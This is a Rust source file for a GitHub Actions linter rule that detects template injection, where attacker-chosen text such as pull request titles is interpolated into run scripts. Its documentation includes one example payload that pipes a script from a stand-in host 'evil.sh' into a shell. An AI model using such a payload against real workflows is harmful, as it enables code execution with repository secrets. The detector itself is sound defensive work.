use crate::context::{Diagnostic, WorkflowContext};
use crate::rules::rule_impl;
use ship_workflow::expr::{expressions, spans_in};
use ship_workflow::{ActionRef, Node, Span, Step};

mod actions;
pub(crate) mod scope;
pub(crate) mod taint;

use scope::{Conditions, EnvLevel, Events};
use taint::{tainted_writes, Scope, Taint, Write};

declare_rule! {
    /// ## What it reports
    /// A `${{ }}` expression whose value an outsider chooses, pasted into code: a `run:`
    /// script, `actions/github-script`'s `script:`, or the script input of an action that
    /// runs it (the sinks below). Outsiders choose:
    ///
    /// - pull request titles, descriptions and branch names (`github.head_ref`,
    ///   `github.event.pull_request.head.ref`, `workflow_run.head_branch`), issue, comment,
    ///   review and discussion titles and bodies, commit messages and author names and
    ///   emails, wiki page names;
    /// - an `env.X` whose `env:` definition (step, job or workflow) holds one of those, or
    ///   that an earlier step wrote to `$GITHUB_ENV` from one; a `steps.ID.outputs.X` that
    ///   an earlier step wrote to `$GITHUB_OUTPUT` from one;
    /// - a reusable workflow's `inputs.X` when a job of this repository that calls it
    ///   passes one of those.
    ///
    /// A composite action's `inputs.X` hold whatever the steps that use it pass: when a
    /// step passes attacker text to a local action (`uses: ./.github/actions/x`) whose
    /// script interpolates that input, the finding is on the step's `with:` value.
    ///
    /// Expressions are parsed and typed: a value that is a boolean or a number cannot
    /// inject, so `contains(github.event.issue.title, 'bug')`, `github.head_ref == 'main'`,
    /// `!inputs.dry-run` and inputs of `type: boolean`, `number`, `choice` or `environment`
    /// are not reported; `format()`, `join()`, `toJSON()`, `a || b` and the last operand of
    /// `a && b` pass text through and are. A value the step's or job's `if:` pins to a
    /// literal (`if: github.head_ref == 'main'`) is that literal, and text whose author the
    /// `if:` admits only when trusted (`comment.author_association` `OWNER`/`MEMBER`/
    /// `COLLABORATOR`, a pull request from this repository) is theirs. A source is only
    /// reported when the workflow's triggers (narrowed by `if: github.event_name == …`) can
    /// carry it: `github.head_ref` is empty on `push`.
    ///
    /// Not reported: `workflow_dispatch` inputs (only people with write access dispatch),
    /// `github.ref`, `github.sha`, numbers and ids, repository and user names (GitHub limits
    /// them to `[A-Za-z0-9._-]`), labels and releases (made by maintainers), `vars`,
    /// `secrets`, `matrix`, and `needs` and step outputs the workflow computes. Not seen:
    /// what callers outside the repository pass to a reusable workflow, and the outputs of
    /// `uses:` steps (an action that returns a PR title).
    ///
    /// Sinks: `run:` (shell, or `pwsh`/`python` by `shell:`), `actions/github-script`
    /// `script`, `appleboy/ssh-action` `script`, `garygrossgarten/github-action-ssh`
    /// `command`, `nick-fields/retry` and `nick-invision/retry` `command`,
    /// `Wandalen/wretry.action` `command`, `uraimo/run-on-arch-action` `run`,
    /// `addnab/docker-run-action` `run`, `cross-platform-actions/action` `run`, `vmactions/*`
    /// `run`, `azure/cli` and `azure/powershell` `inlineScript`, `mikefarah/yq` `cmd`,
    /// `sergeysova/jq-action` `cmd`, `cloudflare/wrangler-action` `command`, `preCommands`
    /// and `postCommands`, `jannekem/run-python-script-action` `script`,
    /// `Amadevus/pwsh-script` `script`.
    ///
    /// The same value interpolated several times into one script is one finding, with the
    /// count and the lines.
    ///
    /// ## Why
    /// The expression is pasted into the script before the shell (or JavaScript) parses it.
    /// A PR titled ``a"; curl evil.sh | sh; echo "`` runs that command with the job's token
    /// and secrets.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable and quote it in the script; a value
    /// that already is one (`env.X`) is read as `"$X"`:
    ///
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.pull_request.title }}
    ///         run: echo "$TITLE"
    ///       - uses: actions/github-script@v7
    ///         env:
    ///           TITLE: ${{ github.event.pull_request.title }}
    ///         with:
    ///           script: console.log(process.env.TITLE)
    /// ```
    pub struct TemplateInjection {
        id: "template-injection",
        severity: Error,
        summary: "an attacker-controllable expression is interpolated into a script",
    }
}
rule_impl!(TemplateInjection, workflow, actions);

/// What the code in a sink is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Language {
    Shell,
    PowerShell,
    Python,
    JavaScript,
    /// A shell on another machine (ssh actions).
    Remote,
}

impl Language {
    fn consequence(self) -> &'static str {
        match self {
            Language::Shell => "its value can inject shell commands",
            Language::PowerShell => "its value can inject PowerShell commands",
            Language::Python => "its value can inject Python code",
            Language::JavaScript => "its value can inject JavaScript",
            Language::Remote => "its value can inject commands on the remote host",
        }
    }
}

/// Actions that run one of their inputs as code: owner, repository (`*`: any of the
/// owner's), input, language. Compared case-insensitively.
const ACTION_SINKS: &[(&str, &str, &str, Language)] = &[
    ("actions", "github-script", "script", Language::JavaScript),
    ("appleboy", "ssh-action", "script", Language::Remote),
    (
        "garygrossgarten",
        "github-action-ssh",
        "command",
        Language::Remote,
    ),
    ("nick-fields", "retry", "command", Language::Shell),
    ("nick-invision", "retry", "command", Language::Shell),
    ("wandalen", "wretry.action", "command", Language::Shell),
    ("uraimo", "run-on-arch-action", "run", Language::Shell),
    ("addnab", "docker-run-action", "run", Language::Shell),
    ("cross-platform-actions", "action", "run", Language::Shell),
    ("vmactions", "*", "run", Language::Shell),
    ("azure", "cli", "inlinescript", Language::Shell),
    ("azure", "powershell", "inlinescript", Language::PowerShell),
    ("mikefarah", "yq", "cmd", Language::Shell),
    ("sergeysova", "jq-action", "cmd", Language::Shell),
    ("cloudflare", "wrangler-action", "command", Language::Shell),
    (
        "cloudflare",
        "wrangler-action",
        "precommands",
        Language::Shell,
    ),
    (
        "cloudflare",
        "wrangler-action",
        "postcommands",
        Language::Shell,
    ),
    (
        "jannekem",
        "run-python-script-action",
        "script",
        Language::Python,
    ),
    ("amadevus", "pwsh-script", "script", Language::PowerShell),
];

/// A place where a step's text is run as code.
struct Sink<'a> {
    node: &'a Node,
    /// "a `run:` script", "`appleboy/ssh-action`'s `script:`".
    what: String,
    language: Language,
}

fn sinks_of<'a>(step: &Step<'a>) -> Vec<Sink<'a>> {
    if let Some(run) = step.run {
        let shell = step
            .node
            .get("shell")
            .and_then(|s| s.as_str())
            .unwrap_or("")
            .to_ascii_lowercase();
        let language = if shell.starts_with("pwsh") || shell.starts_with("powershell") {
            Language::PowerShell
        } else if shell.starts_with("python") {
            Language::Python
        } else {
            Language::Shell
        };
        return vec![Sink {
            node: run,
            what: "a `run:` script".to_string(),
            language,
        }];
    }
    let Some(ActionRef::Repository { owner, repo, .. }) = step.action() else {
        return Vec::new();
    };
    let Some(with) = step.with.and_then(|w| w.as_map()) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (o, r, input, language) in ACTION_SINKS {
        if !owner.eq_ignore_ascii_case(o) || !(*r == "*" || repo.eq_ignore_ascii_case(r)) {
            continue;
        }
        for e in with {
            if e.key
                .as_str()
                .is_some_and(|k| k.eq_ignore_ascii_case(input))
            {
                let what = if *language == Language::JavaScript {
                    "a github-script `script:`".to_string()
                } else {
                    format!(
                        "`{owner}/{repo}`'s `{}:`, which it runs",
                        e.key.as_str().unwrap_or(input)
                    )
                };
                out.push(Sink {
                    node: &e.value,
                    what,
                    language: *language,
                });
            }
        }
    }
    out
}

/// One cause in one sink: the same attacker text, wherever it is interpolated.
struct Group<'t> {
    taints: Vec<Taint>,
    spans: Vec<Span>,
    /// The first expression, as written (for the fix's `env:` line).
    expression: &'t str,
}

/// A step that passes an expression to one of the repository's composite actions.
fn passes_to_local_action(step: &Step<'_>) -> bool {
    matches!(step.action(), Some(ActionRef::Local(_)))
        && step.with.and_then(|w| w.as_map()).is_some_and(|m| {
            m.iter()
                .any(|e| e.value.as_str().is_some_and(|v| v.contains("${{")))
        })
}

impl TemplateInjection {
    fn check(&self, cx: &WorkflowContext<'_>, out: &mut Vec<Diagnostic>) {
        let mut file_events: Option<Events> = None;
        let mut local_actions = actions::LocalActions::default();
        for job in &cx.workflow.jobs {
            let has_sink = job.steps.iter().any(|s| {
                passes_to_local_action(s)
                    || sinks_of(s)
                        .iter()
                        .any(|k| k.node.as_str().is_some_and(|t| t.contains("${{")))
            });
            if !has_sink {
                continue;
            }
            let events = file_events.get_or_insert_with(|| Events::of_file(cx));
            let job_conditions = Conditions::of(Some(job), None);
            // Only scripts that write to $GITHUB_ENV/$GITHUB_OUTPUT make later values.
            let writes_anything = job.steps.iter().any(|s| {
                s.run_str()
                    .is_some_and(|r| r.contains("GITHUB_ENV") || r.contains("GITHUB_OUTPUT"))
            });
            let mut writes: Vec<Write> = Vec::new();
            for step in &job.steps {
                let conditions = job_conditions.with_step(step);
                let new_writes = {
                    let scope = Scope {
                        cx,
                        job: Some(job),
                        step: Some(step),
                        events: events.narrowed(&conditions),
                        conditions,
                        level: EnvLevel::Step,
                        writes: &writes,
                        depth: 0,
                    };
                    for sink in sinks_of(step) {
                        check_sink(cx, &scope, &sink, out);
                    }
                    if passes_to_local_action(step) {
                        check_local_action(cx, &scope, step, &mut local_actions, out);
                    }
                    if writes_anything {
                        tainted_writes(&scope, step)
                    } else {
                        Vec::new()
                    }
                };
                writes.extend(new_writes);
            }
        }
    }
}

fn check_sink(
    cx: &WorkflowContext<'_>,
    scope: &Scope<'_, '_>,
    sink: &Sink<'_>,
    out: &mut Vec<Diagnostic>,
) {
    let Some(text) = sink.node.as_str() else {
        return;
    };
    if !text.contains("${{") {
        return;
    }
    let found = expressions(text);
    // Positions of every expression in one pass over the node's source text.
    let spans = spans_in(cx.source, sink.node.span);
    let mut groups: Vec<Group> = Vec::new();
    for (i, e) in found.iter().enumerate() {
        let taints = scope.taints(e.inner);
        if taints.is_empty() {
            continue;
        }
        let span = spans.get(i).copied().unwrap_or(sink.node.span);
        match groups.iter_mut().find(|g| g.taints == taints) {
            Some(g) => g.spans.push(span),
            None => groups.push(Group {
                taints,
                spans: vec![span],
                expression: e.inner,
            }),
        }
    }
    for g in groups {
        out.push(diagnostic(sink, &g));
    }
}

/// Attacker text passed as an input that the composite action pastes into a script.
fn check_local_action(
    cx: &WorkflowContext<'_>,
    scope: &Scope<'_, '_>,
    step: &Step<'_>,
    local_actions: &mut actions::LocalActions,
    out: &mut Vec<Diagnostic>,
) {
    let (Some(uses), Some(with)) = (step.uses_str(), step.with.and_then(|w| w.as_map())) else {
        return;
    };
    let Some(summary) = cx.repo.action(uses) else {
        return;
    };
    let mut action: Option<actions::ActionSinks> = None;
    for entry in with {
        let (Some(input), Some(value)) = (entry.key.as_str(), entry.value.as_str()) else {
            continue;
        };
        if !value.contains("${{") {
            continue;
        }
        // Which expression of the value carries the text, for the position.
        let found = expressions(value);
        let Some((index, taints)) = found
            .iter()
            .map(|e| scope.taints(e.inner))
            .enumerate()
            .find(|(_, t)| !t.is_empty())
        else {
            continue;
        };
        if action.is_none() {
            action = local_actions.sinks(cx, &summary.path).cloned();
        }
        let Some(action) = &action else { return };
        let Some(sink) = action
            .sinks
            .iter()
            .find(|s| s.input.eq_ignore_ascii_case(input))
        else {
            continue;
        };
        let span = spans_in(cx.source, entry.value.span)
            .get(index)
            .copied()
            .unwrap_or(entry.value.span);
        let causes: Vec<String> = taints
            .iter()
            .map(|t| format!("`{}` ({})", t.shown, t.why))
            .collect();
        let var = variable_name(input);
        out.push(Diagnostic::new(
            span,
            format!(
                "{} {} passed to `{uses}` as `{input}`, which interpolates it into {} (`{}` line {}): {}",
                causes.join(" and "),
                if causes.len() == 1 { "is" } else { "are" },
                sink.what,
                action.path,
                sink.line,
                sink.language.consequence()
            ),
            format!(
                "in `{}`, pass the input through `env:` (`{var}: ${{{{ inputs.{input} }}}}`) and use the variable in the script instead of `${{{{ inputs.{input} }}}}`",
                action.path
            ),
        ));
    }
}

fn diagnostic(sink: &Sink<'_>, g: &Group) -> Diagnostic {
    let causes: Vec<String> = g
        .taints
        .iter()
        .map(|t| format!("`{}` ({})", t.shown, t.why))
        .collect();
    let verb = if causes.len() == 1 { "is" } else { "are" };
    let mut message = format!(
        "{} {verb} interpolated into {}: {}",
        causes.join(" and "),
        sink.what,
        sink.language.consequence()
    );
    if g.spans.len() > 1 {
        let mut lines: Vec<u32> = g.spans.iter().map(|s| s.start.line).collect();
        lines.dedup();
        let shown: Vec<String> = lines.iter().take(8).map(u32::to_string).collect();
        let more = if lines.len() > 8 { ", …" } else { "" };
        message.push_str(&format!(
            " ({} times in this script: line{} {}{more})",
            g.spans.len(),
            if lines.len() == 1 { "" } else { "s" },
            shown.join(", ")
        ));
    }
    let help = help_for(sink.language, &g.taints[0], g.expression);
    Diagnostic::new(g.spans[0], message, help)
}

fn help_for(language: Language, t: &Taint, expression: &str) -> String {
    if let Some(name) = &t.env_name {
        return match language {
            Language::JavaScript => format!(
                "`{name}` is already in the step's environment: read `process.env.{name}` instead of interpolating `${{{{ {} }}}}`",
                t.shown
            ),
            Language::PowerShell => format!(
                "`{name}` is already in the step's environment: use `$env:{name}` instead of interpolating `${{{{ {} }}}}`",
                t.shown
            ),
            Language::Python => format!(
                "`{name}` is already in the step's environment: read `os.environ[\"{name}\"]` instead of interpolating `${{{{ {} }}}}`",
                t.shown
            ),
            Language::Shell | Language::Remote => format!(
                "`{name}` is already in the step's environment: use \"${name}\" (quoted) instead of interpolating `${{{{ {} }}}}`",
                t.shown
            ),
        };
    }
    let var = variable_name(&t.shown);
    let pass = format!("pass it through `env:` (`{var}: ${{{{ {expression} }}}}`)");
    match language {
        Language::JavaScript => format!("{pass} and read `process.env.{var}` in the script"),
        Language::PowerShell => format!("{pass} and use `$env:{var}` in the script"),
        Language::Python => format!("{pass} and read `os.environ[\"{var}\"]` in the script"),
        Language::Shell => format!("{pass} and use \"${var}\" (quoted) in the script"),
        Language::Remote => format!(
            "{pass}, hand it to the remote shell with the action's `envs: {var}`, and use \"${var}\" (quoted) in the script"
        ),
    }
}

/// `github.event.pull_request.title` → `TITLE`; `inputs.release-name` → `RELEASE_NAME`.
fn variable_name(path: &str) -> String {
    let last = path.rsplit('.').find(|s| *s != "*").unwrap_or("VALUE");
    let name: String = last
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
        format!("VALUE_{name}")
    } else {
        name
    }
}

#[cfg(test)]
mod tests {
    use super::variable_name;

    #[test]
    fn variable_names() {
        assert_eq!(variable_name("github.event.pull_request.title"), "TITLE");
        assert_eq!(variable_name("inputs.release-name"), "RELEASE_NAME");
        assert_eq!(variable_name("github.event.commits.*"), "COMMITS");
        assert_eq!(variable_name("steps.x.outputs.1"), "VALUE_1");
    }
}
